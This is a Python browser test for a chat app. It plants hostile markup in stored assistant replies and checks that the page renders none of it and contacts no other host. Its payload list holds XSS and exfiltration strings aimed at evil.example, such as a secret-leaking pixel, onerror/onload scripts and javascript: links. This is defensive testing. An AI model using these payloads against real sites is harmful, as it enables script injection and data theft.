"""S16: whatever a model writes, the browser asks no other host for anything and runs nothing."""

import json
import subprocess
import sys

import pytest

from drmaum.stack.places import ROOT
from drmaum.tests.test_browser_journey import open_consultation, sign_up

pytestmark = [pytest.mark.browser, pytest.mark.stack, pytest.mark.long]
AT = "evil.example"
WRITTEN = [
    f"![그림](https://{AT}/pixel.png?q=secret)",
    f'<img src="https://{AT}/b.png" onerror="alert(1)">',
    f"<script src=//{AT}/x.js></script><svg/onload=alert(1)>",
    f"[여기](https://{AT}/c) [여기](javascript:alert(1)) <https://{AT}/d> https://{AT}/e",
    f'<link rel=prefetch href="https://{AT}/f"><iframe src="https://{AT}/g"></iframe>',
    f"**굵게 <style>@import url(https://{AT}/h.css)</style>** [1](https://{AT}/i) [1]",
    f'<a href="https://{AT}/j" ping="https://{AT}/k">눌러 주세요</a>',
    f"<video poster=https://{AT}/l autoplay><source src=https://{AT}/m></video>",
    f'<form action="https://{AT}/n"><input autofocus onfocus=alert(1)></form>',
    f'<meta http-equiv=refresh content="0;url=https://{AT}/o"><base href="https://{AT}/">',
]
SCRIPT = """
import json
from chat.models import Event, Message
text = json.loads({text!r})
Message.objects.filter(role="assistant").update(text=text)
for event in Event.objects.filter(kind="reply.done"):
    event.payload["message"]["text"] = text
    event.save()
"""


def rewrite(product, text: str) -> None:
    """As if a model had written it and every guard had slept."""
    done = subprocess.run(
        [sys.executable, "manage.py", "shell", "-v", "0"],
        cwd=ROOT,
        env=product._environment,
        input=SCRIPT.format(text=json.dumps(text)),
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert done.returncode == 0, done.stderr


def test_s16_an_answer_of_markup_asks_nobody_for_anything(own_product, browser_page):
    page, product = browser_page, own_product
    asked: list[str] = []
    ran: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: (ran.append(dialog.message), dialog.dismiss()))
    sign_up(page, product, "markup@example.com")
    open_consultation(page)
    page.fill("#text", "강아지가 산책 뒤에 귀를 긁어요")
    page.click("#send")
    page.wait_for_selector(".said.assistant .rating", timeout=30_000)
    rewrite(product, "\n\n".join(WRITTEN))

    page.reload()
    page.wait_for_selector(f".said.assistant >> text={AT}/pixel.png")
    page.wait_for_timeout(1500)

    assert [address for address in asked if not address.startswith(product.address)] == []
    assert ran == []
    assert (
        page.locator(".said.assistant img, .said.assistant iframe, .said.assistant form").count()
        == 0
    )
    assert page.locator(f".said.assistant a[href*='{AT}']").count() == 0
    assert page.locator(".said.assistant a[href^='javascript']").count() == 0
